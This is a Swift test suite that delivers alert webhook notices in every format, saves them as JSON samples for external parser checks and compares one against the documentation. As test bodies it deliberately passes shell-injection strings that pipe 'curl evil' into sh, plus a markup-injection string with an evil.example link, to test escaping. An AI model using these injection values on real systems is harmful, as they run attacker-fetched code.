import Alerting
import Comparison
import Foundation
import Outbound
import TestKit
import Testing
import Verdicts

/// Delivers notices of every kind in every format, with values that are meant to break out, and leaves them where scripts/check_alerts.py
/// reads them with the parsers of others.
@Suite("Samples for the parsers of others")
struct SampleTests {
    private struct Sample: Encodable {
        let format: String
        let secrets: [String]
        let headers: [String: String]
        let body: String
    }

    private static let secrets = [Array(UInt8(0)..<32), Array(UInt8(32)..<64)]
    private static let root = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent()

    @Test("written as they were delivered", arguments: AlertFormat.allCases)
    func samples(format: AlertFormat) async throws {
        let receiver = try await WebhookReceiver.start()
        let channel = AlertChannel(
            name: "on-call", url: receiver.url, format: format, secrets: Self.secrets, networks: AlertingFixture.loopback,
            heartbeatSeconds: 3_600)
        let life = try await LifeFixture(.sqlite, channels: [channel]) { settings in
            settings.pace.resolveAfter = 1_000
            settings.pace.noticesMax = 6
            settings.standing = { _ in NoticeStanding(stage: "staff 90/10", audience: "staff", auditHead: "12:9f86d081884c") }
        }
        let desk = life.alerting.desk
        try await life.meet("0199aa01-0000-7000-8000-000000000001", severity: .critical)
        life.counts.set(0)
        try await life.tick()
        try await life.tick(after: 14_400, clean: 500)
        try await life.tick(after: 14_400, clean: 1_000)
        try await life.alerting.observe([
            AlertingFixture.evidence(
                "0199aa01-0000-7000-8000-000000000002", operation: NoticeFormatTests.hostile, path: "$.name",
                primary: NoticeFormatTests.hostile, shadow: "<@U123> <https://evil.example|x> &amp; *b* _i_ ~s~",
                headers: [["Idempotency-Key", NoticeFormatTests.hostile]], body: NoticeFormatTests.hostile,
                at: life.time.microseconds)
        ])
        for (number, body) in [
            "x';curl evil|sh;'y", "x`;curl evil|sh;`y", "$(curl evil)\\' & \"", String(repeating: "x'", count: 2_000),
        ]
        .enumerated() {
            try await life.alerting.observe([
                AlertingFixture.evidence(
                    "0199aa01-0000-7000-8000-00000000001\(number)", operation: "pasted-\(number)", body: body,
                    at: life.time.microseconds)
            ])
        }
        let now = life.time.microseconds
        for kind in RolloutIncident.Kind.allCases {
            let event = RolloutIncident(
                kind: kind, plan: "payouts", summary: "staff 90/10: \(kind.rawValue) by the plan's rules",
                operations: ["payout"], affectedKeys: kind.staysOpen ? 412 : nil, at: now)
            try await life.alerting.store.write { _ = try desk.tell(event, on: $0) }
        }
        for number in 0..<30 { try await life.meet("f\(number)", operation: "kind-\(number)", path: "$.x", severity: .critical) }
        try await life.tick(after: 600)
        let client = OutboundClient()
        defer { client.close() }
        let courier = Courier(
            store: life.alerting.store, channels: [channel], client: client, nowMicroseconds: { life.time.microseconds })
        await courier.deliverDue()
        #expect(await AlertBook.test(channel, client: client) == .delivered("HTTP 200"))

        let folder = Self.root.appending(path: ".build/alert-samples")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        for old in try FileManager.default.contentsOfDirectory(at: folder, includingPropertiesForKeys: nil)
        where old.lastPathComponent.hasPrefix(format.rawValue) {
            try FileManager.default.removeItem(at: old)
        }
        for (number, notice) in receiver.notices.enumerated() {
            var headers: [String: String] = [:]
            for header in notice.headers where header.count == 2 { headers[header[0].lowercased()] = header[1] }
            let sample = Sample(
                format: format.rawValue, secrets: Self.secrets.map { "whsec_" + Data($0).base64EncodedString() },
                headers: headers, body: notice.bodyText)
            try JSONEncoder().encode(sample).write(to: folder.appending(path: "\(format.rawValue)-\(number).json"))
        }
        #expect(receiver.notices.count >= 18, "\(receiver.notices.count)")
        try Self.holdAgainstPage(try #require(receiver.notices.first).bodyText, format)
        try await receiver.side.shutdown()
    }

    /// The examples of docs/alerts.md are the first notice, as it was delivered.
    private static func holdAgainstPage(_ body: String, _ format: AlertFormat) throws {
        let page = try String(contentsOf: root.appending(path: "docs/alerts.md"), encoding: .utf8)
        let chapters = page.components(separatedBy: "\n## `\(format.rawValue)`\n")
        try #require(chapters.count == 2)
        let chapter = chapters[1].components(separatedBy: "\n## ")[0]
        guard let example = chapter.components(separatedBy: "```json\n").dropFirst().first else {
            #expect(format == .slack)
            return
        }
        let text = example.components(separatedBy: "\n```")[0]
        let written = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? NSDictionary
        let delivered = try JSONSerialization.jsonObject(with: Data(body.utf8)) as? NSDictionary
        #expect(written != nil && written == delivered, "docs/alerts.md shows another body than \(body)")
    }
}
